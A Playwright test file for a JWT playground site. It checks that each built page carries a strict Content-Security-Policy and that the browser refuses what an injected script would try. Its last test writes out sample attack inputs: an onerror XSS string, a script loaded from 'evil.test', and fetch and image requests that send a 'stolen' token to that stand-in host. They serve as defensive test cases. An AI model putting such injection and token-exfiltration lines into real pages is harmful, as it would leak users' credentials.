import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from './support'

const out = join(import.meta.dirname, '..', 'out')
/** All but the isolated frame that asks other hosts, which has a policy of its own: see import.spec.ts. */
const pages = readdirSync(out, { recursive: true, encoding: 'utf8' }).filter(
  (name) => name.endsWith('.html') && name.replaceAll('\\', '/') !== 'import/frame.html',
)

test('Every page carries the policy, before anything else in its head', () => {
  expect(pages.length).toBeGreaterThan(30)
  for (const name of pages) {
    const html = readFileSync(join(out, name), 'utf8')
    const [, content = ''] = /<head><meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html) ?? []
    const policy = new Map(
      content.split('; ').map((directive) => [directive.split(' ')[0] ?? '', directive.split(' ').slice(1)]),
    )
    expect(policy.get('default-src'), name).toEqual(["'none'"])
    expect(policy.get('connect-src'), name).toEqual(["'self'"])
    expect(policy.get('base-uri'), name).toEqual(["'none'"])
    expect(policy.get('form-action'), name).toEqual(["'none'"])
    expect(policy.get('require-trusted-types-for'), name).toEqual(["'script'"])
    expect(
      policy.get('script-src')?.filter((source) => !/^'sha256-[A-Za-z0-9+/]{43}='$/.test(source)),
      name,
    ).toEqual(["'self'"])
    expect(content, name).not.toMatch(/unsafe-eval|unsafe-hashes|https?:|\*/)
    expect(html.match(/http-equiv="Content-Security-Policy"/g), name).toHaveLength(1)
    // Event handlers as attributes would be refused, and so would scripts of others.
    expect(html, name).not.toMatch(/<script[^>]+src="(?!\/)/)
  }
})

test('Nothing of the site goes against it: Monaco, hover, completion, themes, moving between pages', async ({
  page,
  playground,
}) => {
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      console.error('violation', violatedDirective, blockedURI, sample),
    )
  })
  await playground.open()
  await playground.wake('header')
  await playground.wake('payload')
  await page.locator('.view-line', { hasText: '"aud"' }).getByText('"aud"').hover()
  await expect(page.locator('.monaco-hover').filter({ visible: true })).toBeVisible()
  await playground.area('payload').focus()
  await page.keyboard.press('ControlOrMeta+Home')
  await page.keyboard.press('End')
  await page.keyboard.press('Enter')
  await page.keyboard.type('"a')
  await expect(page.locator('.suggest-widget')).toBeVisible()
  await page.keyboard.press('Escape')
  for (const theme of ['light', 'dark', 'system']) {
    await page.getByRole('button', { name: /^Theme: / }).click()
    await expect(page.getByRole('button', { name: `Theme: ${theme}` })).toBeVisible()
  }
  await page.getByText('Sign with another algorithm or key').click()
  await page.getByRole('button', { name: /^Make a key for / }).click()
  await expect(page.getByRole('radio', { name: /^my-/ })).toBeChecked()

  const main = page.getByRole('navigation', { name: 'Main' })
  await main.getByRole('link', { name: 'Examples' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Examples')
  await main.getByRole('link', { name: 'Docs' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Docs')
  await page.getByRole('article').locator('dt a[href="/docs/confused-deputy/"]').click()
  await page.locator('[data-live-example]').first().scrollIntoViewIfNeeded()
  await expect(page.locator('[data-live="true"]').first()).toBeVisible()
  await page.getByRole('link', { name: 'Deputy Lab' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Valid. Just not for you.')
  await page.getByRole('group', { name: 'Whom is the token for?' }).getByRole('button', { name: 'Billing' }).click()
  await expect(page.locator('.build .stamp').last()).toContainText('accepted')
})

test('It refuses what a script that got in would try', async ({ page, playground, faults }) => {
  await playground.open()
  const tried = await page.evaluate(async () => {
    // What the test calls directly may do more than a script of the page.
    await new Promise((resolve) => setTimeout(resolve))
    const attempt = async (act: () => unknown) => {
      try {
        await act()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      function: await attempt(() => new Function('return 1')()),
      markup: await attempt(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'
      }),
      script: await attempt(() => {
        document.createElement('script').src = 'https://evil.test/x.js'
      }),
      text: await attempt(() => {
        document.createElement('script').text = 'alert(1)'
      }),
      handler: await attempt(() => document.createElement('button').setAttribute('onclick', 'alert(1)')),
      fetch: await attempt(() => fetch('https://evil.test/?token=stolen')),
      image: await attempt(() => {
        const image = new Image()
        image.src = 'https://evil.test/?token=stolen'
        return image.decode()
      }),
    }
  })
  const refused = {
    function: 'EvalError',
    markup: 'TypeError',
    script: 'TypeError',
    text: 'TypeError',
    handler: 'TypeError',
    fetch: 'TypeError',
    image: 'EncodingError',
  }
  expect(tried).toMatchObject(refused)
  expect(faults.filter((fault) => !fault.startsWith('logged'))).toEqual([])
  faults.length = 0
})
